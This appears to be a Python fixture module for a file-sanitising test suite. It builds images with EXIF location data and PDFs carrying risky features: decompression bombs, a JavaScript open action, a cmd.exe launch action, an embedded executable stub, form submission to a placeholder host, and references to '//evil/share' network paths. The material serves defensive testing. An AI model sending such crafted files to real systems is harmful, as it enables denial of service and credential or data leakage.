"""Files as people and attackers send them, made here."""

import io
import struct
import zlib

import pikepdf
from PIL import Image
from pillow_heif import from_pillow

CANARY = "Kanariefugl"


def a_picture(width: int = 320, height: int = 200) -> Image.Image:
    return Image.effect_noise((width, height), 40).convert("RGB")


def saved(picture: Image.Image, form: str, **details) -> bytes:
    out = io.BytesIO()
    picture.save(out, form, **details)
    return out.getvalue()


def a_photo(form: str = "JPEG", **details) -> bytes:
    """A photo that tells where it was taken, and with what."""
    told = Image.Exif()
    told[0x010F] = CANARY
    told[0x0112] = 6  # lying on its side
    places = told.get_ifd(0x8825)
    places[1], places[2] = "N", (55.0, 40.0, 34.0)
    if form == "HEIF":
        out = io.BytesIO()
        from_pillow(a_picture()).save(out, format="HEIF", exif=told.tobytes())
        return out.getvalue()
    return saved(a_picture(), form, exif=told, **details)


def a_pdf(*, author: str = CANARY, change=None, **details) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.docinfo["/Author"] = author
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(out, **details)
    return out.getvalue()


def a_huge_picture() -> bytes:
    """A hundred megapixels in some kilobytes."""
    return saved(Image.new("1", (10_000, 10_000)), "PNG")


def a_picture_that_lies() -> bytes:
    """A PNG whose head says that it is small, and whose data would fill memory."""
    head = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    data = zlib.compress(bytes(200_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def a_pdf_that_grows() -> bytes:
    """A PDF whose list of objects unpacks to more than any memory."""
    packed = zlib.compress(bytes(1_900_000_000), 9)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(packed)
    body = b"%PDF-1.5\n1 0 obj\n" + stream + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return body + b"2 0 obj\n<< /Type /Catalog /Pages 3 0 R >>\nendobj\ntrailer << /Root 2 0 R >>\n%%EOF"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def with_javascript(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def with_a_launch(pdf: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)
    pdf.pages[0].Annots = pikepdf.Array([note])


def with_a_file_inside(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["a.exe"] = b"MZ"


def that_sends_itself(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://x.example"))


def with_a_link(action: dict):
    """Return what puts a link with an action on a PDF's first page."""

    def change(pdf: pikepdf.Pdf) -> None:
        said = pikepdf.Dictionary(Type=pikepdf.Name.Action, **action)
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], F=4, A=said)
        pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(note)])

    return change


def an_address(where: str | bytes):
    return with_a_link({"S": pikepdf.Name.URI, "URI": pikepdf.String(where)})


def with_a_stream_elsewhere(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents = pikepdf.Stream(pdf, b"", F=pikepdf.String("//evil/share/x"))


def with_a_picture_elsewhere(pdf: pikepdf.Pdf) -> None:
    _with_an_object(pdf, Subtype=pikepdf.Name.Image, Width=1, Height=1, F=pikepdf.Dictionary(F="//evil/share/x"))


def with_a_page_of_another_file(pdf: pikepdf.Pdf) -> None:
    _with_an_object(pdf, Subtype=pikepdf.Name.Form, Ref=pikepdf.Dictionary(F="x.pdf", Page=0))


def that_names_a_file(pdf: pikepdf.Pdf) -> None:
    pdf.Root.PortalTest = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="//evil/share/x")


def with_a_base(pdf: pikepdf.Pdf) -> None:
    pdf.Root.URI = pikepdf.Dictionary(Base="file:////evil/share/")


def _with_an_object(pdf: pikepdf.Pdf, **details) -> None:
    drawn = pikepdf.Stream(pdf, b"", Type=pikepdf.Name.XObject, **details)
    pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=drawn))
